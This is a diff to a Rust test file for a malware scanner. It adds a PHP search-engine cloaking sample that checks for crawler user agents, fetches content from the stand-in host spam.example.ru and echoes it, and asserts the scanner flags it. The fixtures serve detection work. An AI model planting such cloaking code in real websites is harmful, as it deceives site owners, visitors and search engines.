@@ -356,6 +356,11 @@ fn search_engine_cloaking_is_found() {
         $c = curl_init(); curl_setopt($c, CURLOPT_URL, "http://$a.31.253.227/$p/?useragent=$u&domain=$_SERVER[HTTP_HOST]");
         $o = curl_exec($c); curl_close($c); echo $o; }"#;
     assert_eq!(found(encoded), [Why::SearchEngineCloaking]);
+    // fresh69's Japanese keyword cloakers: the headers read through a getter of the file's own.
+    let getter = r#"<?php function k($e) { return @$_SERVER[$e] ? $_SERVER[$e] : ""; } $g = k('HTTP_USER_AGENT');
+        $bb = array("ua" => $g, "isBot" => preg_match("@google|yahoo|bing@", $g) ? "1" : "");
+        $w = @file_get_contents('http://spam.example.ru/page?' . http_build_query($bb)); echo $w;"#;
+    assert_eq!(found(getter), [Why::SearchEngineCloaking]);
     // The same with a word that names no crawler (`ZmlyZWZveA==` is `firefox`).
     assert!(found(&encoded.replace("Z29vZ2xl", "ZmlyZWZveA==")).is_empty());
     // A cache that skips crawlers fetches nothing.
